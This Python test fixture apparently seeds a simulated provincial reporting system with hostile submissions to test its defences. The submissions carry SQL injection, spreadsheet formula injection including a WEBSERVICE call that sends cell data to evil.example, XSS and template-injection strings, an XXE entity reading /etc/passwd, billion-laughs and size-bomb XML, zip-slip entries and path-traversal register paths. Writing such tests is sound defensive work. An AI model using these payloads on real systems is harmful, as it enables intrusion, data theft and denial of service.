"""A small simulated province whose offices send what an attacker would: in names, in cells, in archives, in the register."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl

from tests.e2e.seeds import SEEDS
from tests.simulator import simulate, write_raw
from tests.simulator.profile import small

YEAR = 2019
AS_OF = "2020-02-01T00:00:00+07:00"
SQL = "THT Robert'; DROP TABLE mart.fct_indicator; --"
LIVE = (
    "=cmd|'/C calc'!A0",
    '+HYPERLINK("http://evil.example","bấm")',
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=WEBSERVICE("http://evil.example/"&A1)',
)
MARKUP = ("<script>alert`1`</script>", '<img src=x onerror="alert`2`">', '"><a href="javascript:alert`3`">', "]]></system-out><x>")
TAGS = ("{{ 7 * 7 }}", "{%p for x in year %}", "{{ cycler.__init__.__globals__ }}", "{%tr if 1 %}", "{# ghi chú #}", "{{r evil }}")
SHEET = "='Biểu 2'&<b>{{ 7 }}"
MARKDOWN = "THT **đậm** | `ô` | [bấm](http://evil.example/) ```"
NAMES = (SQL, *LIVE, *MARKUP, *TAGS, MARKDOWN)
SECRET = "secret-outside-raw"

# who sends what, beside the names: each of these files is of no other use
ENTITIES, OUTSIDE_ENTITY, BOMB, CLIMBING = "SCT", "STC", "STTTT", "TCT"
ASTRAY = ("BKT", "DPTTH", "BCD", "BKT")  # whose rows in the register point outside
NAMED, FORMULAS = "615", "608"
LONGEST = 255  # bytes of a file's name
Rows = list[dict[str, str]]


def build(home: Path) -> Path:
    """``home/raw``, and ``home/secret.xlsx`` beside it, that a path in the register points at."""
    raw = home / "raw"
    write_raw(simulate(small(htx=12, years=2), seed=SEEDS["hostile province"]), raw, "plain")
    with (raw / "incoming.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    _name(_file(raw, rows, NAMED))
    _speak(_file(raw, rows, NAMED))
    _formulas(_file(raw, rows, FORMULAS))
    _row(rows, FORMULAS)["path"] = _rename(raw, _row(rows, FORMULAS)["path"])
    for sender, change in ((ENTITIES, _entities), (OUTSIDE_ENTITY, _outside_entity), (BOMB, _bomb), (CLIMBING, _climbing)):
        path = _file(raw, rows, sender)
        path.write_bytes(change(path.read_bytes()))
    (home / "secret.xlsx").write_text(SECRET)
    paths = ("../secret.xlsx", "2019/../../secret.xlsx", str(home / "secret.xlsx"), "2019/BKT/\t../../../secret.xlsx")
    for number, (sender, path) in enumerate(zip(ASTRAY, paths, strict=True)):
        said = {"document_no": LIVE[number], "note": MARKUP[number], "received_at": f"2020-01-1{number}T08:00:00+07:00"}
        rows.append(_row(rows, sender) | {"path": path, "sha256": ""} | said)
    _row(rows, NAMED).update(document_no="=cmd|'/C calc'!A0", note=MARKUP[0] + TAGS[0])
    with (raw / "incoming.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, rows[0], lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    with (raw / "waivers.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, lineterminator="\n")
        writer.writerow(["year", "rule", "sender", "path", "sheet", "row", "column", "reason", "signed_by", "signed_at"])
        writer.writerow([YEAR, "unreadable_file", ENTITIES, "", "", "", "", f"{TAGS[0]} {MARKUP[0]}", TAGS[2], "2020-01-15T08:00:00+07:00"])
    return raw


def _row(rows: Rows, sender: str) -> dict[str, str]:
    return next(row for row in rows if (row["sender"], row["year"], row["form"]) == (sender, str(YEAR), "agency_report"))


def _file(raw: Path, rows: Rows, sender: str) -> Path:
    row = _row(rows, sender)
    row["sha256"] = ""  # what came is what is there
    return raw / row["path"]


def _rename(raw: Path, path: str) -> str:
    """A name as long as a disk takes, live, of two lines, with markup, a tag and a terminal's command in it."""
    begins = f"=cmd|calc!A0\n\x1b[2J<b onclick=x>{TAGS[0]}"
    renamed = Path(path).with_name(begins + "a" * (LONGEST - len(f"{begins}.xlsx")) + ".xlsx")
    (raw / path).rename(raw / renamed)
    return renamed.as_posix()


def _columns(sheet: openpyxl.worksheet.worksheet.Worksheet, first: str) -> tuple[dict[str, int], int]:
    header = next(row for row in sheet.iter_rows() if any(cell.value == first for cell in row))
    return {str(cell.value): cell.column for cell in header if cell.value}, header[0].row + 1


def _text(cell: openpyxl.cell.Cell, value: str) -> None:
    cell.value = value
    cell.data_type = "s"  # as Excel keeps what is typed after an apostrophe


def _name(path: Path) -> None:
    """Every hostile text as the name of a cooperative group of its own."""
    book = openpyxl.load_workbook(path)
    sheet = book["Biểu 2"]
    columns, first = _columns(sheet, "Tên đơn vị")
    like = next(row for row in range(first, sheet.max_row + 1) if sheet.cell(row, columns["Loại hình"]).value == "THT")
    last = max(row for row in range(first, sheet.max_row + 1) if sheet.cell(row, columns["Loại hình"]).value)
    sheet.insert_rows(last + 1, len(NAMES))
    for number, name in enumerate(NAMES, start=last + 1):
        for column in range(1, sheet.max_column + 1):
            sheet.cell(number, column).value = sheet.cell(like, column).value
        _text(sheet.cell(number, columns["Tên đơn vị"]), name)
    book.save(path)


def _speak(path: Path) -> None:
    """The same as words of tasks and classes, which the report and its annexes print."""
    book = openpyxl.load_workbook(path)
    tasks, classes = book["Biểu 4"], book["Biểu 3"]
    columns, first = _columns(tasks, "Mã nhiệm vụ")
    for number, text in enumerate((*TAGS, *MARKUP, *LIVE, SQL)[: tasks.max_row - first]):
        _text(tasks.cell(first + number, columns["Kết quả"]), text)
    columns, first = _columns(classes, "Tên lớp")
    for number, text in enumerate(NAMES[: max(0, classes.max_row - first)]):
        _text(classes.cell(first + number, columns["Tên lớp"]), text)
    book.save(path)


def _formulas(path: Path) -> None:
    """Live formulas, links and a sheet's name in the sender's own workbook, which goes back to it marked."""
    book = openpyxl.load_workbook(path)
    sheet = book["Biểu 2"]
    for number, formula in enumerate(
        ("=cmd|'/C calc'!A0", '=HYPERLINK("http://evil.example","x")', "='[evil.xlsx]Sheet1'!A1", "=SUM(1,2)")
    ):
        sheet.cell(sheet.max_row + 3, 3 + number).value = formula
    far = sheet.cell(sheet.max_row + 2, 1)
    far.value, far.hyperlink = "bấm vào đây", "http://evil.example/"
    sheet.title = SHEET
    book.save(path)


def _part(content: bytes, name: str, change: bytes | None, more: dict[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for found in old.namelist():
            new.writestr(found, change if found == name and change is not None else old.read(found))
        for found, data in (more or {}).items():
            new.writestr(found, data)
    return buffer.getvalue()


def _sheet(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return book.read("xl/worksheets/sheet1.xml")


def _entities(content: bytes) -> bytes:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    laughs = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">{entities}]>'.encode()
    body = _sheet(content).rpartition(b"?>")[2]
    return _part(content, "xl/worksheets/sheet1.xml", laughs + body.replace(b"</sheetData>", b"&a9;</sheetData>"))


def _outside_entity(content: bytes) -> bytes:
    strings = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><sst><si><t>&f;</t></si></sst>'
    return _part(content, "xl/sharedStrings.xml", strings)


def _bomb(content: bytes) -> bytes:
    return _part(content, "xl/worksheets/sheet1.xml", _sheet(content).replace(b"</sheetData>", b" " * 400_000_000 + b"</sheetData>"))


def _climbing(content: bytes) -> bytes:
    climbing = {f"{'../' * depth}climbed.txt": b"out" for depth in (1, 2, 6)} | {"/climbed.txt": b"out"}
    return _part(content, "", None, climbing)
